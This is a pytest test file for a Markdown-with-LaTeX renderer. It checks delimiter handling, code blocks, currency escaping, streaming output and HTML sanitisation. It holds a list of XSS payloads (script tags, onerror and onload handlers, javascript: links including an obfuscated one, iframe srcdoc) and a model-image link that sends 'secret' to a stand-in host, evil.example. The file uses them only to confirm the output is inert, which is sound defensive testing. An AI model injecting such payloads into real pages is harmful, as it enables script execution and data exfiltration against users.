"""Markdown with LaTeX: math survives, code is never math, output is safe, streaming is stable."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from nano_magic.render import StreamRenderer, segments, to_html, to_markdown

DELIMITERS = [
    ("$a_1$", "\\(a_1\\)", "$a_1$"),
    ("$$a_1$$", "\\[a_1\\]", "$$a_1$$"),
    ("\\(a_1\\)", "\\(a_1\\)", "$a_1$"),
    ("\\[a_1\\]", "\\[a_1\\]", "$$a_1$$"),
    ("\\begin{align}a_1 &= b\\\\ c\\end{align}", "\\begin{align}a_1 &amp;= b\\\\ c\\end{align}", "$$\\begin{align}a_1 &= b\\\\ c\\end{align}$$"),
]


@pytest.mark.parametrize("source,html,markdown", DELIMITERS)
def test_every_delimiter_style_reaches_mathjax_and_normalises_to_dollars(source: str, html: str, markdown: str) -> None:
    assert html in to_html(f"Here {source} now")
    assert to_markdown(f"Here {source} now") == f"Here {markdown} now"


def test_markdown_specials_inside_math_survive() -> None:
    text = r"Sum $a_i * b_j = \{x\}$ and $$M = \begin{pmatrix}1 \\ 2\end{pmatrix}_k^*$$"
    html = to_html(text)
    assert r"\(a_i * b_j = \{x\}\)" in html
    assert r"\[M = \begin{pmatrix}1 \\ 2\end{pmatrix}_k^*\]" in html
    assert "<em>" not in html


def test_dollars_in_code_are_not_math() -> None:
    text = "Use `$x$` or\n\n```bash\necho $HOME $PATH\n```\n"
    html = to_html(text)
    assert "<code>$x$</code>" in html and "echo $HOME $PATH" in html
    assert "\\(" not in html
    assert to_markdown(text) == text


def test_currency_is_not_math_and_is_escaped_in_the_final_markdown() -> None:
    text = "It costs $5 and $10, or $5-$10 in total."
    assert [s.kind for s in segments(text)] == ["text"]
    assert to_markdown(text) == r"It costs \$5 and \$10, or \$5-\$10 in total."
    assert "\\(" not in to_html(text)


def test_llm_display_layout_with_text_before_and_after() -> None:
    text = "The formula is:\n\\[\nx = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}\n\\]\nmore text"
    html = to_html(text)
    assert "<p>The formula is:</p>" in html and "<p>more text</p>" in html
    assert "\\[\nx = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}\n\\]" in html
    assert to_markdown(text) == "The formula is:\n$$x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$$\nmore text"


def test_lists_nested_lists_tables_and_code_in_lists() -> None:
    text = (
        "Steps:\n1. First\n   - nested $x^2$\n   - other\n2. Second\n\n"
        "   ```python\n   print('hi')\n   ```\n\n"
        "| a | b |\n| --- | --- |\n| 1 | $y$ |\n"
    )
    html = to_html(text)
    assert re.search(r"<ol>\s*<li>", html) and "<ul>" in html
    assert "<table>" in html and "<td>\\(y\\)</td>" in html
    assert "print('hi')" in html and "<pre><code" in html


XSS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    "[click](javascript:window.__pwned=1)",
    "[click](JaVa&#115;cript:window.__pwned=1)",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<svg onload=window.__pwned=1>",
    "[ref]: javascript:window.__pwned=1\n\nsee [x][ref]",
]


class Tags(HTMLParser):
    """The tags and attributes a browser would build from some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.mark.parametrize("payload", XSS)
def test_hostile_html_is_inert_in_the_html(payload: str) -> None:
    for tag, attrs in Tags(to_html(f"Answer\n\n{payload}\n\nend")).found:
        assert tag not in ("script", "iframe", "svg", "object", "embed")
        for name, value in attrs:
            assert not name.startswith("on") and name != "srcdoc"
            assert not (value or "").strip().lower().startswith(("javascript", "data"))


@pytest.mark.parametrize("payload", XSS)
def test_hostile_html_is_inert_in_the_final_markdown(payload: str) -> None:
    markdown = to_markdown(f"Answer\n\n{payload}\n\nend")
    assert "<" not in markdown.replace("&lt;", "")
    assert not re.search(r"\]\(\s*java", markdown, re.I) and not re.search(r"\]:\s*java", markdown, re.I)


def test_images_from_the_model_become_links_so_nothing_loads_unasked() -> None:
    text = "See ![chart](https://evil.example/?q=secret) and `![kept](in code)`"
    assert "<img" not in to_html(text) and '<a href="https://evil.example/?q=secret"' in to_html(text)
    assert to_markdown(text) == "See [chart](https://evil.example/?q=secret) and `![kept](in code)`"


def test_code_text_survives_sanitizing() -> None:
    html = to_html("```html\n<script>alert('x') && a < b</script>\n```")
    assert "&lt;script&gt;alert('x') &amp;&amp; a &lt; b&lt;/script&gt;" in html


LONG = (
    "# Title\n\nIntro with $a^2+b^2=c^2$ and **bold** text.\n\n"
    "- item one\n- item two with \\(x_1\\)\n  1. nested\n\n"
    "$$\n\\int_0^1 x\\,dx = \\tfrac12\n$$\n\n"
    "```python\nfor i in range(3):\n\n    print(i)\n```\n\n"
    "| col | val |\n| --- | --- |\n| a | $5 |\n\nThe end costs $5 and $10.\n"
)


def test_every_prefix_streams_without_errors_or_unbalanced_fences() -> None:
    renderer = StreamRenderer()
    frozen: list[str] = []
    for ch in LONG:
        renderer.feed(ch)
        block, tail = renderer.render()
        if block is not None:
            frozen.append(block)
        assert tail.count("<pre>") == tail.count("</pre>")
        assert "**" not in tail and not re.search(r"<p>\s*[-*]\s*</p>", tail)
    assert len(frozen) >= 4
    whole = "".join(frozen) + tail
    for piece in ("<h1>Title</h1>", "\\(a^2+b^2=c^2\\)", "<strong>bold</strong>", "\\[\n\\int_0^1", "<table>", "print(i)"):
        assert piece in whole


def test_unclosed_display_math_shows_as_code_until_it_closes() -> None:
    renderer = StreamRenderer()
    renderer.feed("Look:\n\n$$\n\\frac{a}{b")
    _, tail = renderer.render()
    assert "<code" in tail and "\\frac{a}{b" in tail and "\\[" not in tail
    renderer.feed("}\n$$\n")
    block, tail = renderer.render()
    assert "\\[\n\\frac{a}{b}\n\\]" in (block or "") + tail


def test_half_typed_markers_do_not_flash() -> None:
    for partial in ("Intro\n\n-", "Intro\n\n1.", "Intro\n\n1", "Some **bo", "Cost of $x^", "#"):
        renderer = StreamRenderer()
        renderer.feed(partial)
        _, tail = renderer.render()
        visible = re.sub(r"<[^>]+>", "", tail)
        assert "**" not in visible and "$" not in visible and not visible.strip().endswith(("-", "1", "1.", "#"))


def test_currency_and_long_text_after_a_dollar_are_not_held_back() -> None:
    for partial, shown in (("It costs $3 and a batch of ten", "It costs $3 and a batch of ten"),
                           ("Price: $" + "x" * 60, "Price: $" + "x" * 60), ("Area $\\pi r", "Area")):
        renderer = StreamRenderer()
        renderer.feed(partial)
        _, tail = renderer.render()
        assert re.sub(r"<[^>]+>", "", tail).replace("\\$", "$").strip() == shown


def test_finished_blocks_are_rendered_once() -> None:
    renderer = StreamRenderer()
    renderer.feed("First paragraph.\n\nSecond")
    block, tail = renderer.render()
    assert block == "<p>First paragraph.</p>" and tail == "<p>Second</p>"
    renderer.feed(" grows.")
    block, tail = renderer.render()
    assert block is None and tail == "<p>Second grows.</p>"


def test_ordered_lists_split_across_blocks_keep_their_numbers() -> None:
    renderer = StreamRenderer()
    renderer.feed("1. one\n\n2. two\n\n3. three")
    block, tail = renderer.render()
    assert 'start="3"' in tail or "<ol>" in (block or "")
